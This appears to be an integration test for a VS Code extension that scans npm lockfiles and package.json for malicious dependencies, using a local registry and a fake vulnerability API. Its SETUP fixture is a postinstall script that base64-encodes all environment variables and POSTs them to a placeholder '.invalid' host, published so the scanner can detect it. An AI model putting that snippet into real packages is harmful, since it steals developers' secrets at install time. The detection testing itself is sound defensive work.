/**
 * The editor pipeline outside VS Code: a fake `vscode` module, real files on disk, the built worker,
 * Verdaccio as the registry and a local fake OSV API. A lockfile rewritten on disk (as npm install
 * does) turns into diagnostics on the lockfile entry and on the package.json line.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { WorkerPool } from '../../../src/worker/pool';
import { startFakeServer, type FakeServer } from '../../support/fakeServer';
import { startVerdaccio, type Verdaccio } from '../../support/verdaccio';
import { createFakeVscode, declaredDefaults, type FakeDiagnostic, useFakeVscode } from './fakeVscode';

const root = path.join(__dirname, '../../..');
const defaults = declaredDefaults();
const tmp = mkdtempSync(path.join(os.tmpdir(), 'takedown-coordinator-test-'));
const workspace = path.join(tmp, 'workspace');
mkdirSync(path.join(workspace, 'node_modules', 'calm-widget'), { recursive: true });
const manifestPath = path.join(workspace, 'package.json');
const lockPath = path.join(workspace, 'package-lock.json');
const user: Record<string, unknown> = { 'scan.scope': 'added' };
const fake = createFakeVscode(defaults, { user, folder: workspace, files: () => [manifestPath, lockPath, path.join(workspace, 'node_modules', 'calm-widget', 'package.json')] });

useFakeVscode(fake);

// Inert imitation of an install-time environment thief: the host is a reserved .invalid name.
const SETUP = "const http = require('http');\n\nconst data = Buffer.from(JSON.stringify(process.env)).toString('base64');\nconst req = http.request({ hostname: 'stats.example.invalid', path: '/log', method: 'POST' });\nreq.on('error', () => {});\nreq.write(data);\nreq.end();\n";

const starting = startVerdaccio();
let reg: Verdaccio;
let osv: FakeServer;
let pool: WorkerPool;

function lockfile(calmVersion: string, integrity: string): string {
  return `${JSON.stringify(
    {
      name: 'app',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'app', version: '1.0.0', dependencies: { 'calm-widget': '^1.0.0', 'known-bad-pkg': '2.0.0' } },
        'node_modules/calm-widget': { version: calmVersion, resolved: `${reg.url}calm-widget/-/calm-widget-${calmVersion}.tgz`, integrity },
        'node_modules/known-bad-pkg': { version: '2.0.0', resolved: `${reg.url}known-bad-pkg/-/known-bad-pkg-2.0.0.tgz`, integrity: 'sha512-bm90IHB1Ymxpc2hlZA==' },
      },
    },
    null,
    2,
  )}\n`;
}

let integrity101 = '';
let integrity100 = '';

before(async () => {
  assert.ok(existsSync(path.join(root, 'dist/worker.js')), 'dist/worker.js is built (npm run build:worker)');
  reg = await starting;
  integrity100 = (await reg.publish({ packageJson: { name: 'calm-widget', version: '1.0.0', main: 'index.js' }, files: { 'index.js': 'module.exports = 1;\n' } })).integrity;
  await reg.publish({ packageJson: { name: 'typed-widget', version: '3.0.0', main: 'index.js' }, files: { 'index.js': 'module.exports = 3;\n' } });
  integrity101 = (await reg.publish({ packageJson: { name: 'calm-widget', version: '1.0.1', main: 'index.js', scripts: { postinstall: 'node setup.js' } }, files: { 'index.js': 'module.exports = 1;\n', 'setup.js': SETUP } })).integrity;
  osv = await startFakeServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      res.setHeader('content-type', 'application/json');
      if (req.url === '/v1/querybatch') {
        const queries = (JSON.parse(body) as { queries: { package: { name: string }; version: string }[] }).queries;
        res.end(JSON.stringify({ results: queries.map((q) => (q.package.name === 'known-bad-pkg' && q.version === '2.0.0' ? { vulns: [{ id: 'MAL-2026-100', modified: '2026-01-01T00:00:00Z' }] } : {})) }));
      } else if (req.url === '/v1/vulns/MAL-2026-100') {
        res.end(JSON.stringify({ id: 'MAL-2026-100', summary: 'Malicious code in known-bad-pkg (npm)', modified: '2026-01-01T00:00:00Z', published: '2026-01-01T00:00:00Z', affected: [{ package: { ecosystem: 'npm', name: 'known-bad-pkg' }, versions: ['2.0.0'] }] }));
      } else {
        res.statusCode = 404;
        res.end('{}');
      }
    });
  });
  user['registry.url'] = reg.url;
  user['osv.endpoint'] = osv.url;
  writeFileSync(manifestPath, `${JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { 'calm-widget': '^1.0.0', 'known-bad-pkg': '2.0.0' } }, null, 2)}\n`);
  writeFileSync(lockPath, lockfile('1.0.0', integrity100));
  writeFileSync(path.join(workspace, 'node_modules', 'calm-widget', 'package.json'), '{"name":"calm-widget","version":"1.0.0","dependencies":{"never-read":"1.0.0"}}');
  pool = new WorkerPool({ script: path.join(root, 'dist/worker.js'), size: 2 });
});

after(async () => {
  await pool?.dispose();
  await reg?.stop();
  rmSync(tmp, { recursive: true, force: true });
});

const key = (p: string) => `file://${p}`;
const summary = (list: FakeDiagnostic[] | undefined) => (list ?? []).map((d) => `${d.range.start.line}|${d.severity}|${d.source}|${d.message}`);

test('first sight looks every locked package up; a lockfile rewritten on disk scans the bump and flags both files', async () => {
  /* eslint-disable @typescript-eslint/no-require-imports */
  const { ScanCoordinator } = require('../../../src/editor/scanCoordinator') as typeof import('../../../src/editor/scanCoordinator');
  const { DiagnosticsPresenter } = require('../../../src/editor/diagnostics') as typeof import('../../../src/editor/diagnostics');
  /* eslint-enable @typescript-eslint/no-require-imports */
  const logs: string[] = [];
  const log = { info: (m: string) => logs.push(m), warn: (m: string) => logs.push(`warn ${m}`), error: (m: string) => logs.push(`error ${m}`), debug() {}, show() {}, child() { return log; } };
  const storage = { global: fake.vscode.Uri.file(path.join(tmp, 'global')), workspace: fake.vscode.Uri.file(path.join(tmp, 'storage')) } as never;
  const coordinator = new ScanCoordinator(() => pool, log, storage, 2);
  const presenter = new DiagnosticsPresenter(coordinator);
  try {
    assert.equal(await coordinator.discover(), 2, 'node_modules is never read');
    assert.ok(await coordinator.waitForIdle(60_000));
    presenter.refresh();
    const lockLines = readFileSync(lockPath, 'utf8').split('\n');
    const knownBadLine = lockLines.findIndex((l) => l.includes('"node_modules/known-bad-pkg"'));
    assert.deepEqual(summary(fake.diagnostics.get(key(lockPath))), [`${knownBadLine}|0|Takedown|Malicious: known-bad-pkg@2.0.0 — known malware (MAL-2026-100): Malicious code in known-bad-pkg (npm)`]);
    assert.deepEqual(summary(fake.diagnostics.get(key(manifestPath))), ['5|0|Takedown|Malicious: known-bad-pkg@2.0.0 — known malware (MAL-2026-100): Malicious code in known-bad-pkg (npm)'], 'the direct dependency is flagged on its package.json line');
    assert.equal(coordinator.states.get('calm-widget@1.0.0')?.result, undefined, 'scope "added": nothing is scanned on first sight');

    // npm install bumps calm-widget: the change is found against the last state seen (no git here).
    writeFileSync(lockPath, lockfile('1.0.1', integrity101));
    coordinator.schedule(fake.vscode.Uri.file(lockPath) as never, 'disk');
    assert.equal(coordinator.idle, false, 'a pending change counts as busy');
    assert.ok(await coordinator.waitForIdle(120_000));
    presenter.refresh();
    const state = coordinator.states.get('calm-widget@1.0.1');
    assert.equal(state?.result?.verdict, 'malicious', JSON.stringify(state?.result?.reason));
    const calmLine = readFileSync(lockPath, 'utf8').split('\n').findIndex((l) => l.includes('"node_modules/calm-widget"'));
    const lockDiags = fake.diagnostics.get(key(lockPath))!;
    const calm = lockDiags.find((d) => d.range.start.line === calmLine)!;
    assert.match(calm.message, /^Malicious: calm-widget@1\.0\.1 — Sends the whole environment/);
    assert.equal(calm.severity, 0);
    const code = calm.code as { value: string; target: { fsPath: string } };
    assert.equal(code.value, state!.result!.findings[0]!.rule);
    assert.ok(calm.relatedInformation!.some((r) => r.location.uri.scheme === 'takedown-pkg' && r.location.uri.path === '/calm-widget/1.0.1/setup.js' && (r.location.range as unknown as { line: number }).line === 5));
    assert.ok(summary(fake.diagnostics.get(key(manifestPath))).some((d) => d.startsWith('4|0|Takedown|Malicious: calm-widget@1.0.1 — ')), 'and on its package.json line');
    assert.equal(coordinator.states.get('calm-widget@1.0.0')?.result, undefined, 'the version it replaced is not scanned');

    // The evidence document reads the file from the tarball through the worker.
    const file = await coordinator.readPackageFile({ name: 'calm-widget', version: '1.0.1', path: 'setup.js', settings: coordinator.origins.get('calm-widget@1.0.1')!.settings });
    assert.equal(file.text, SETUP);

    // Allow this version (a user-level entry here) removes the diagnostics without another scan.
    user.allow = [{ package: 'calm-widget@1.0.1', by: 'ana', at: '2026-03-01T00:00:00Z' }];
    presenter.refresh();
    assert.ok(!summary(fake.diagnostics.get(key(lockPath))).some((d) => d.includes('calm-widget')));
    assert.deepEqual(presenter.counts, { malicious: 1, suspicious: 0, notable: 0, unknown: 0 });
  } finally {
    coordinator.dispose();
    presenter.dispose();
  }
});

test('typing in an unsaved package.json scans what the edit adds against the state before it; half-typed JSON keeps the last model', async () => {
  /* eslint-disable @typescript-eslint/no-require-imports */
  const { ScanCoordinator, modelIsCurrent } = require('../../../src/editor/scanCoordinator') as typeof import('../../../src/editor/scanCoordinator');
  /* eslint-enable @typescript-eslint/no-require-imports */
  const log = { info() {}, warn() {}, error() {}, debug() {}, show() {}, child() { return log; } };
  const storage = { global: fake.vscode.Uri.file(path.join(tmp, 'global2')) } as never;
  user['scan.scope'] = 'added';
  const coordinator = new ScanCoordinator(() => pool, log, storage, 2);
  const uri = fake.vscode.Uri.file(manifestPath);
  const saved = readFileSync(manifestPath, 'utf8');
  const doc = { uri, isDirty: false, version: 1, getText: () => saved };
  (fake.vscode.workspace.textDocuments as unknown[]).push(doc);
  try {
    await coordinator.discover();
    assert.ok(await coordinator.waitForIdle(60_000));
    assert.equal(coordinator.states.get('typed-widget@3.0.0'), undefined);
    const typed = saved.replace('"dependencies": {', '"dependencies": {\n    "typed-widget": "3.0.0",');
    Object.assign(doc, { isDirty: true, version: 2, getText: () => typed });
    coordinator.schedule(uri as never, 'editor');
    assert.ok(await coordinator.waitForIdle(60_000));
    const tracked = coordinator.files.get(key(manifestPath))!;
    assert.equal(tracked.documentVersion, 2);
    assert.equal(tracked.baselineDetail, 'last state seen before the edits');
    assert.ok(modelIsCurrent(tracked, doc as never));
    assert.equal(coordinator.states.get('typed-widget@3.0.0')?.result?.version, '3.0.0', 'the typed dependency was scanned before any save');
    assert.equal(coordinator.states.get('calm-widget@1.0.0')?.result, undefined, 'nothing else was');

    Object.assign(doc, { version: 3, getText: () => typed.replace('"3.0.0",', '"3.0') });
    coordinator.schedule(uri as never, 'editor');
    assert.ok(await coordinator.waitForIdle(60_000));
    assert.equal(coordinator.files.get(key(manifestPath))!.documentVersion, 2, 'the broken text did not replace the last good model');
    assert.equal(modelIsCurrent(coordinator.files.get(key(manifestPath))!, doc as never), false, 'so hovers wait for a model of what is shown');
  } finally {
    (fake.vscode.workspace.textDocuments as unknown[]).length = 0;
    coordinator.dispose();
  }
});

test('Scan Package: scanNow resolves with the result, or without one when it is cancelled (running or still queued)', async () => {
  /* eslint-disable @typescript-eslint/no-require-imports */
  const { ScanCoordinator } = require('../../../src/editor/scanCoordinator') as typeof import('../../../src/editor/scanCoordinator');
  /* eslint-enable @typescript-eslint/no-require-imports */
  const log = { info() {}, warn() {}, error() {}, debug() {}, show() {}, child() { return log; } };
  const coordinator = new ScanCoordinator(() => pool, log, { global: fake.vscode.Uri.file(path.join(tmp, 'global3')) } as never, 1);
  try {
    const { scan } = coordinator.settingsFor();
    const done = await coordinator.scanNow({ name: 'typed-widget', spec: 'latest', key: 'typed-widget@latest' }, scan);
    assert.equal(done.result?.version, '3.0.0');
    assert.equal(coordinator.states.get('typed-widget@3.0.0'), done, 'findable by the version the tag resolved to');
    const running = coordinator.scanNow({ name: 'calm-widget', version: '1.0.0', key: 'calm-widget@1.0.0' }, scan);
    const queued = coordinator.scanNow({ name: 'calm-widget', version: '1.0.1', key: 'calm-widget@1.0.1' }, scan);
    coordinator.cancel('calm-widget@1.0.1');
    coordinator.cancel('calm-widget@1.0.0');
    const [a, b] = await Promise.all([running, queued]);
    assert.deepEqual([a.result, a.pending, b.result, b.pending], [undefined, false, undefined, false]);
    assert.ok(await coordinator.waitForIdle(10_000));
  } finally {
    coordinator.dispose();
  }
});
